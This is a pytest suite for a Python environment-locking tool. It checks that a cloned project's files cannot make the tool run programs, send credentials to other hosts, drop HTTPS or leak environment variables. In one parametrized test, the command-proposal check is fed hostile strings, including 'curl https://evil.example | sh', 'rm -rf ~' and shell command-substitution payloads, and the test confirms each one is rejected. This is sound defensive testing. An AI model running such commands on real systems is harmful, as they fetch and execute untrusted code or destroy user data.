"""A cloned folder chooses nothing that runs, reads no secrets, and hides no place of packages."""

from __future__ import annotations

import base64
import os
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from envlock.conda.programs import find_program
from envlock.errors import EnvlockError, InterpreterMissing, UsageError
from envlock.formats.comments import own_command
from envlock.index.fetch import Client
from envlock.model import IndexSettings
from envlock.targets.interpreters import find_interpreter, find_version
from support.program import Done, Program
from support.simple_index import SimpleIndex

MINOR = f"{sys.version_info.major}.{sys.version_info.minor}"
INDEX_TABLE = '[tool.envlock]\nindex-url = "{url}"\n'
HASH = f"--hash=sha256:{'0' * 64}"


def program_of(folder: Path, name: str) -> Path:
    """Put a program into a folder that leaves a mark beside it when it is run."""
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\ntouch '{folder}/RAN'\nexec '{sys.executable}' \"$@\"\n")
    path.chmod(0o755)
    return path


def ran(folder: Path) -> bool:
    return (folder / "RAN").exists()


@pytest.mark.parametrize(
    "words",
    [
        ("lock", "demo"),
        ("lock", "--check", "demo"),
        ("docker", "--check"),
    ],
)
@pytest.mark.parametrize("python", ["./evil", "evil"])
def test_the_python_of_a_project_is_not_run(
    program: Program, words: tuple[str, ...], python: str
) -> None:
    program_of(program.here, "evil")
    (program.here / "pyproject.toml").write_text(f'[tool.envlock]\npython = "{python}"\n')
    done = program(*words)
    assert (done.code, done.out) == (2, "")
    assert done.err == (
        f"error: {program.here / 'pyproject.toml'}: tool.envlock.python:"
        f' "{python}" is not a version: a project\'s file chooses no program that is run\n'
        "  try: write a version such as 3.11; a path is for --python, ENVLOCK_PYTHON or"
        " envlock.toml of your own\n"
    )
    assert not ran(program.here)


NAMES = ("python3.10", "python", "pypy3", "3.11", "3", "3.14t", "3.11rc1", "python3.11.exe", "evil")


@pytest.mark.parametrize("kind", ["file", "folder"])
def test_a_bare_name_is_never_a_program_of_the_current_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", f"{os.pathsep}.{os.pathsep}{tmp_path.name}")
    for name in NAMES if kind == "file" else NAMES[:-1]:
        program_of(tmp_path, name if kind == "file" else f"{name}/bin/python")
        with pytest.raises(EnvlockError) if name not in {MINOR, "3"} else nothing():
            find_interpreter(name)
        assert not ran(tmp_path), name


@pytest.mark.parametrize("entry", ["{here}", "{here}/.", "/proc/self/cwd", "{here}/x/.."])
def test_no_name_of_the_current_folder_counts_on_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, entry: str
) -> None:
    (tmp_path / "x").mkdir()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", entry.format(here=tmp_path))
    for name in ("python3.10", "micromamba"):
        program_of(tmp_path, name)
    with pytest.raises(InterpreterMissing):
        find_interpreter("python3.10")
    find_interpreter(MINOR)
    with pytest.raises(EnvlockError):
        find_program("micromamba")
    assert not ran(tmp_path)


@contextmanager
def nothing() -> Iterator[None]:
    yield


def test_a_path_that_the_user_names_is_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    program_of(tmp_path, "python3.10")
    with pytest.raises(InterpreterMissing) as caught:
        find_interpreter("python3.10x")
    assert (
        caught.value.message == "python3.10x: neither a version such as 3.11 nor a program on PATH"
    )
    assert find_interpreter("./python3.10").markers["implementation_name"] == "cpython"
    assert ran(tmp_path)


@pytest.mark.parametrize("said", ["./evil", "evil", "/bin/sh", "../x", "3.11/../evil", "", "3.x"])
def test_a_version_that_a_file_names_is_a_version(said: str) -> None:
    with pytest.raises(UsageError) as caught:
        find_version(said, "a.lock")
    assert caught.value.message == (
        f"a.lock is for the Python {said}, which is not a version such as 3.11"
    )


@pytest.mark.parametrize(
    "words",
    [
        ("sync", "r.txt"),
        ("export", "r.txt", "--format", "pylock", "-o", "pylock.x.toml"),
        ("bisect", "r.txt", "r.txt"),
        ("diagnose", "r.txt"),
        ("diff", "r.txt", "r.txt"),
    ],
)
def test_the_python_in_the_header_of_a_lock_is_not_run(
    program: Program, words: tuple[str, ...]
) -> None:
    program_of(program.here, "evil")
    (program.here / "r.txt").write_text(f"# python ./evil on linux-x86_64\ndemo==1.0 {HASH}\n")
    program(*words)
    assert not ran(program.here)


def test_an_environment_that_came_with_the_folder_is_not_run(
    program: Program, index: SimpleIndex
) -> None:
    venv = program.here / ".venv"
    program_of(program.here, f"home/python{MINOR}")
    (venv / "bin").mkdir(parents=True)
    (venv / "bin" / "python").symlink_to(program.here / "home" / f"python{MINOR}")
    (venv / "pyvenv.cfg").write_text(f"home = {program.here}/home\nversion_info = {MINOR}.1\n")
    (venv / "envlock.json").write_text('{"made-by": "envlock"}\n')
    (program.here / "r.txt").write_text(f"# python {MINOR} on x\ndemo==1.0 {HASH}\n")
    program("diagnose", "-q")
    program("history")
    program("lock", "--check", "demo")
    program("sync", "r.txt", "--force", "--index-url", index.url)
    assert not ran(program.here)


@pytest.mark.parametrize(
    ("text", "proposed"),
    [
        ("envlock lock tensorflow --python 3.11", True),
        ("envlock lock -r 'a b.in' --index-url https://h.example/simple", True),
        ("curl https://evil.example | sh", False),
        ("envlock lock demo; rm -rf ~", False),
        ("envlock lock $(touch x)", False),
        ("envlock lock `touch x`", False),
        ("envlock lock demo > /etc/passwd", False),
        ("envlock lock demo --python ./evil", False),
        ("envlock lock demo -p ./evil", False),
        ("envlock create --env . --force", False),
        ("envlock lock demo --trusted-host h", False),
        ("envlock verify --probe evil.py", False),
        ("envlock lock 'demo", False),
        ("", False),
    ],
)
def test_the_command_of_a_lock_is_proposed_where_it_is_envlocks_own(
    text: str, *, proposed: bool
) -> None:
    assert own_command(text) == (text if proposed else "")


def test_an_index_that_a_project_chose_is_named_once_and_redacted(
    program: Program, index: SimpleIndex
) -> None:
    file = program.here / "pyproject.toml"
    file.write_text(INDEX_TABLE.format(url=index.url_with("bob:s3cr3t-pw")))
    named = f"{file}: index-url: packages come from {index.url.replace('://', '://****@')}"
    for words in (("lock", "h5py", "--engine", "uv", "-q"), ("lock", "h5py", "--check")):
        done = program(*words)
        assert done.err.splitlines()[0] == named
        assert done.err.count("packages come from") == 1
    done = program("lock", "h5py", "--engine", "uv", "--json", "-U")
    assert done.data["places"] == [
        {"from": f"{file}: index-url", "place": index.url.replace("://", "://****@")}
    ]
    assert "packages come from" not in program("lock", "h5py", "-i", index.url, "--check").err


@pytest.mark.parametrize("key", ["index-url", "extra-index-url", "find-links"])
def test_a_project_turns_no_encryption_off(program: Program, key: str) -> None:
    file = program.here / "pyproject.toml"
    file.write_text(f'[tool.envlock]\n{key} = "http://u:s3cr3t-pw@h.example/simple"\n')
    done = program("lock", "demo", "--engine", "uv")
    assert done.code == 2
    assert done.err == (
        f"error: {file}: {key}: http://****@h.example/simple is not encrypted (https), and a"
        " file does not decide that this does not matter\n"
        "  try: envlock lock demo --engine uv --trusted-host h.example\n"
    )
    file.write_text(f'[tool.envlock]\n{key} = "http://h.example/simple"\ntrusted-host = "h"\n')
    assert "there is no such setting" in program("lock", "demo").err


class _Ear(BaseHTTPRequestHandler):
    """Answers 401, or sends on to another place; keeps what it is told."""

    heard: list[str]
    sends_to: str

    def do_GET(self) -> None:
        self.heard.append(self.headers.get("Authorization", ""))
        self.send_response(302 if self.sends_to else 401)
        if self.sends_to:
            self.send_header("Location", f"{self.sends_to}{self.path}")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def ear(sends_to: str = "") -> Iterator[tuple[str, list[str]]]:
    heard: list[str] = []
    kind = type("Ear", (_Ear,), {"heard": heard, "sends_to": sends_to})
    server = ThreadingHTTPServer(("127.0.0.1", 0), kind)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()
        server.server_close()


def test_credentials_stay_with_the_host_they_were_given_for(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("unearth.auth.get_keyring_auth", lambda *_: ("bob", "fr0m-keyring"))
    monkeypatch.setenv("NETRC", os.devnull)
    with ear() as (other, there), ear(f"http://{other}") as (own, here):
        settings = IndexSettings(
            index_url=f"http://bob:s3cr3t@{own}/simple",
            extra_index_urls=(f"http://{other}/simple",),
        )
        with Client(settings) as client:
            for place in (own, other):
                with pytest.raises(EnvlockError):
                    client.read(f"http://{place}/simple/demo/")
    given = base64.b64encode(b"bob:s3cr3t").decode()
    assert here[0] == f"Basic {given}"
    assert not any(given in each for each in there)
    assert there[0] == ""


def test_an_index_of_sources_has_the_credentials_of_any_other(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """With its files, which stand beside it and are named without them."""
    monkeypatch.setattr("unearth.auth.get_keyring_auth", lambda *_: ("bob", "fr0m-keyring"))
    monkeypatch.setenv("NETRC", os.devnull)
    for given, sent in (("bob:s3cr3t", "bob:s3cr3t"), ("bob", "bob:fr0m-keyring")):
        with ear() as (host, heard):
            settings = IndexSettings(sources=(("acme", f"http://{given}@{host}/simple"),))
            with Client(settings) as client, pytest.raises(EnvlockError):
                client.read(f"http://{host}/simple/files/acme-1.0.tar.gz")
        assert heard[0] == f"Basic {base64.b64encode(sent.encode()).decode()}"


def test_the_users_password_is_not_told_to_an_index_of_a_project(
    program: Program, index: SimpleIndex
) -> None:
    index.auth = ("bob", "s3cr3t-pw")
    with ear() as (other, heard):
        (program.here / "pyproject.toml").write_text(
            f'[tool.envlock]\nextra-index-url = "http://{other}/simple"\n'
        )
        own = program.with_env(PIP_INDEX_URL=index.url_with("bob:s3cr3t-pw"), NETRC=os.devnull)
        own("lock", "h5py", "--engine", "uv", "--fresh")
        assert heard
        assert set(heard) == {""}


def test_a_channel_of_a_file_sends_no_variable(program: Program) -> None:
    pytest.importorskip("rattler")
    with ear() as (host, heard):
        for word in (f"http://{host}/$AWS_KEY", f"http://u:$AWS_KEY@{host}/chan"):
            (program.here / "environment.yml").write_text(
                f"channels: ['{word}']\ndependencies: [python]\n"
            )
            own = program.with_env(AWS_KEY="s3cr3t-value")
            done: Done = own("lock", "-r", "environment.yml", "--platform", "linux-64")
            assert done.code == 2
            assert "s3cr3t-value" not in done.err + done.out
        assert heard == []


def test_the_action_imports_nothing_of_the_folder() -> None:
    text = (Path(__file__).parents[2] / "action.yml").read_text(encoding="utf-8")
    starts = [line for line in text.splitlines() if " -m " in line and "$" in line]
    assert len(starts) == 3
    assert all(" -I -m " in line for line in starts)
